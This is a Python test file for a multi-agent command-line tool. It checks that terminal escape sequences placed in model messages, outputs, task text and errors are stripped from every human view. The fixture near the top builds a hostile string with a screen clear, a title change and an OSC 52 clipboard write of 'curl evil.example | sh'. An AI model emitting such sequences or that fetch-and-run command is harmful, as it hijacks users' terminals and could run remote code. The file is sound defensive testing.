"""Injection: a model cannot rewrite the user's terminal. Models write escape sequences (a screen
clear, an OSC 52 clipboard write, a title change), a bell and carriage-return overwrites into a
message, an output, a task's text and an error; every human view of the CLI prints their text
without any of it, while `--json` keeps it (escaped). The agents run on the marked workers, and
the marker secret in their environment never leaves them."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import redis
from click.testing import CliRunner, Result
from teamctl.coordinator.cli import main
from teamctl.shared.bus import LEAD
from teamctl.shared.teams.team_store import TeamStore
from teamctl.shared.teams.teammates import MateStatus

from tests.support.injection import MARKED_QUEUE, MarkedWorkers, assert_marker_kept
from tests.support.llm import HttpError, ScriptedLLM, ToolCalls
from tests.support.teams import cli
from tests.support.waiting import wait_until

CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"
HOSTILE = ("\x1b[2J\x1b[Hseen" + CLIPBOARD + " text\rall tests passed\x07"
           "\x1b]0;pwned\x1b\\ end")
"""Clear the screen, write the clipboard, overwrite the line, ring, retitle the window."""
SHOWN = "seen text all tests passed  end"
"""What a person sees of it: the words, with spaces for the carriage return and the bell."""
ONE_LINE = " ".join(SHOWN.split())
"""As a one-line view (a list, a table) shows it."""
CONTROL = ("\x1b", "\x07", "\r", "\x9b")


def assert_printable(result: Result) -> None:
    """Neither stream holds an escape, a bell or a carriage return (line ends are \\n)."""
    for stream in (result.stdout, result.stderr):
        assert not [c for c in CONTROL if c in stream], repr(stream)


def run_team(path: Path, models: dict[str, str]) -> Path:
    """Two members, planner and synthesizer, every one of them on the marked workers."""
    queue = f'queue = "{MARKED_QUEUE}"'
    path.write_text("\n".join([
        'team_id = "terminal"',
        f'planner = {{ model = "{models["planner"]}", {queue} }}',
        f'synthesizer = {{ model = "{models["synth"]}", {queue} }}',
        "[[members]]", 'id = "m1"', f'model = "{models["m1"]}"', queue,
        "[[members]]", 'id = "m2"', f'model = "{models["m2"]}"', queue,
        "[options]", "max_attempts = 1", "model_max_retries = 0"]) + "\n")
    return path


def test_no_model_text_acts_on_the_terminal_in_the_run_views(
        llm: ScriptedLLM, marked_workers: MarkedWorkers, run_id: str, tmp_path: Path) -> None:
    url = marked_workers.redis_url
    plan = {"tasks": [{"id": "collect", "memberId": "m1", "task": f"Collect {HOSTILE}"},
                      {"id": "check", "memberId": "m2", "task": "Check it"}]}
    models = {
        "planner": llm.script(f"plan-{run_id}", [json.dumps(plan)]),
        "m1": llm.script(f"m1-{run_id}", [
            ToolCalls([("team_send_message", {"toMemberId": "m2", "content": HOSTILE})]),
            f"output {HOSTILE}"]),
        "m2": llm.script(f"m2-{run_id}", [HttpError(400, f"bad request {HOSTILE}")]),
        "synth": llm.script(f"synth-{run_id}", [f"answer {HOSTILE}"])}
    team = run_team(tmp_path / "team.toml", models)

    ran = CliRunner().invoke(main, [
        "run", "Collect and check", "--team", str(team), "--api-base", llm.api_base,
        "--redis-url", url, "--workers", "0", "--run-id", run_id, "--approve-plan"])

    assert ran.exit_code != 0, ran.output  # m2 failed: a partial answer
    assert_printable(ran)
    assert ran.stdout == f"answer {SHOWN}\n"
    assert "task check (m2) failed after 1 attempt(s): " in ran.stderr
    views = {verb: CliRunner().invoke(main, [verb, run_id, "--redis-url", url])
             for verb in ("status", "tasks", "messages", "events")}
    views["tasks --follow"] = CliRunner().invoke(
        main, ["tasks", run_id, "--follow", "--redis-url", url])
    views["runs"] = CliRunner().invoke(main, ["runs", "--redis-url", url, "--limit", "200"])
    for verb, shown in views.items():
        assert shown.exit_code in (0, 1), (verb, shown.output)
        assert_printable(shown)
    assert f"answer {SHOWN}" in views["status"].stdout
    assert "bad request seen text" in views["status"].stdout  # m2's error, in the task table
    assert f"m1 -> m2: {SHOWN}" in views["messages"].stdout
    assert f"m1 -> m2: {SHOWN}" in views["events"].stdout
    # The JSON keeps the text as the model wrote it, escaped.
    as_json = CliRunner().invoke(main, ["messages", run_id, "--redis-url", url, "--json"])
    contents = [json.loads(line)["content"] for line in as_json.stdout.splitlines()]
    assert HOSTILE in contents and "\x1b" not in as_json.stdout
    assert_marker_kept(llm, redis.Redis.from_url(url),  # bytes: RQ's job data is binary
                       [tmp_path / "state", marked_workers.log_dir])


class Lead:
    """The lead's model: put a task with a hostile subject on the board, then answer with the
    same text to every later call (the teammate's mail wakes it once more)."""

    def __call__(self, body: dict[str, Any]) -> ToolCalls | str:
        if not any(m.get("role") == "tool" for m in body["messages"]):
            return ToolCalls([("create_task", {"subject": f"Write {HOSTILE}",
                                               "role": f"nobody{HOSTILE}"}),
                              ("no_such_tool" + HOSTILE, {})])
        return f"lead says {HOSTILE}"


def test_no_model_text_acts_on_the_terminal_in_the_team_views(
        llm: ScriptedLLM, marked_workers: MarkedWorkers, team: str, tmp_path: Path) -> None:
    url = marked_workers.redis_url
    conn = redis.Redis.from_url(url, decode_responses=True)
    eve = llm.script(f"eve-{team}", [
        ToolCalls([("send_message", {"to": LEAD, "content": HOSTILE})]), f"done {HOSTILE}"])
    lead = llm.script(f"lead-{team}", handler=Lead())
    store = TeamStore(conn, team)
    store.spawn("eve", role="scout", prompt="Report.", model=eve, api_base=llm.api_base,
                queue=MARKED_QUEUE)
    wait_until(lambda: store.get("eve").status is MateStatus.IDLE, 60, message="eve idle")
    shown_mail = cli("team", "inbox", LEAD, "-t", team, "--redis-url", url)

    led = cli("lead", "-t", team, "--redis-url", url, "--workers", "0", "--model", lead,
              "--api-base", llm.api_base, "-m", "Plan the work.", "--until-idle")

    assert led.exit_code == 0, led.output
    assert_printable(led)
    assert f"lead says {SHOWN}" in led.stdout
    assert "teamctl lead: create_task: ok" in led.stderr
    views = {"inbox": shown_mail,
             "repl": CliRunner().invoke(main, [
                 "lead", "-t", team, "--redis-url", url, "--workers", "0", "--model", lead,
                 "--api-base", llm.api_base], input="/team\n/inbox\n/tasks\n/requests\n/quit\n")}
    for verb in (["list"], ["messages"], ["task", "list"], ["requests"]):
        views[" ".join(verb)] = cli("team", *verb, "-t", team, "--redis-url", url)
    for verb, shown in views.items():
        assert shown.exit_code == 0, (verb, shown.output)
        assert_printable(shown)
    assert f"eve -> lead\tpeer.message\t{ONE_LINE}" in views["inbox"].stdout
    assert f"eve -> lead: {SHOWN}" in views["messages"].stdout
    assert f"Write {ONE_LINE}" in views["task list"].stdout
    assert f"Write {ONE_LINE}" in views["repl"].stdout
    assert_marker_kept(llm, redis.Redis.from_url(url),  # bytes: RQ's job data is binary
                       [tmp_path / "state", marked_workers.log_dir])
